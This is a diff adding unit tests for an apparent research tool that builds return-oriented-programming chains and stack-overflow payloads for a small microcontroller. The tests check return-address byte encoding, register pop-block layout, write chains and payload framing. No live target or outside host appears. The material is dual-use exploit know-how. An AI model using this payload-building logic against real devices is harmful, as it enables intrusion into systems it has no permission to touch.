@@ -1,0 +1,106 @@
+"""ROP chain builder: byte layout, register assignment, framing."""
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from repro.attack import ChainBuilder, FILL_BYTE, Write3, ret_address_bytes
+from repro.errors import AttackError
+
+
+def test_ret_address_bytes_big_endian_in_memory():
+    assert ret_address_bytes(0x0002) == b"\x00\x00\x02"
+    assert ret_address_bytes(0x1B284 // 2) == bytes([0x00, 0xD9, 0x42])
+
+
+@given(st.integers(0, (1 << 22) - 1))
+def test_ret_address_bytes_roundtrip(word):
+    high, mid, low = ret_address_bytes(word)
+    assert (high << 16) | (mid << 8) | low == word
+
+
+def test_ret_address_bytes_range():
+    with pytest.raises(AttackError):
+        ret_address_bytes(1 << 22)
+    with pytest.raises(AttackError):
+        ret_address_bytes(-1)
+
+
+@pytest.fixture(scope="module")
+def builder(request):
+    testapp = request.getfixturevalue("testapp")
+    return ChainBuilder(testapp)
+
+
+def test_pop_block_layout(builder):
+    block = builder.pop_block({29: 0xAA, 28: 0xBB, 5: 0x11})
+    assert len(block) == builder.wm.pop_bytes
+    assert block[0] == 0xAA  # r29 popped first
+    assert block[1] == 0xBB
+    assert block[builder.wm.pop_index(5)] == 0x11
+    assert block[2] == FILL_BYTE  # unset register
+
+
+def test_regs_for_write_sets_y_and_values(builder):
+    regs = builder._regs_for_write(Write3(0x0300, b"\x01\x02\x03"))
+    # Y = target - first displacement (1)
+    assert regs[28] == 0xFF and regs[29] == 0x02
+    assert regs[5] == 0x01 and regs[6] == 0x02 and regs[7] == 0x03
+
+
+def test_regs_for_write_validates_width(builder):
+    with pytest.raises(AttackError):
+        builder._regs_for_write(Write3(0x0300, b"\x01"))
+
+
+def test_write_chain_block_structure(builder):
+    chain = builder.write_chain(
+        [Write3(0x300, b"abc")], final_ret_word=0x1234, final_regs={}
+    )
+    unit = builder.wm.pop_bytes + 3
+    assert len(chain) == 2 * unit
+    # first block's ret points at the std half
+    first_ret = chain[builder.wm.pop_bytes : builder.wm.pop_bytes + 3]
+    assert first_ret == ret_address_bytes(builder.wm.std_entry_word)
+    # final ret leaves the chain
+    assert chain[-3:] == ret_address_bytes(0x1234)
+
+
+def test_chain_block_cost_formula(builder):
+    for writes in (0, 1, 3):
+        expected = (
+            builder.stk.pop_bytes + 3
+            + (writes + 1) * (builder.wm.pop_bytes + 3)
+        )
+        assert builder.chain_block_cost(writes) == expected
+        chain = builder.chain_block(
+            [Write3(0x300 + 4 * i, b"xyz") for i in range(writes)],
+            final_ret_word=0, final_regs={},
+        )
+        assert len(chain) == expected
+
+
+def test_overflow_payload_framing(builder):
+    payload = builder.overflow_payload(b"CHAIN", 16, r29=0x21, r28=0x55, ret_word=0x77)
+    assert len(payload) == 16 + 2 + 3
+    assert payload[:5] == b"CHAIN"
+    assert payload[5:16] == bytes([FILL_BYTE]) * 11
+    assert payload[16] == 0x21 and payload[17] == 0x55
+    assert payload[18:] == ret_address_bytes(0x77)
+
+
+def test_overflow_payload_rejects_oversize(builder):
+    with pytest.raises(AttackError):
+        builder.overflow_payload(bytes(32), 16, r29=0, r28=0, ret_word=0)
+
+
+def test_split_writes(builder):
+    writes = builder.split_writes(0x400, b"ABCDEFG")
+    assert [w.target for w in writes] == [0x400, 0x403, 0x406]
+    assert writes[0].values == b"ABC"
+    assert writes[2].values == b"G" + bytes([FILL_BYTE, FILL_BYTE])
+
+
+def test_write3_validates_target():
+    with pytest.raises(AttackError):
+        Write3(0x10000, b"abc")
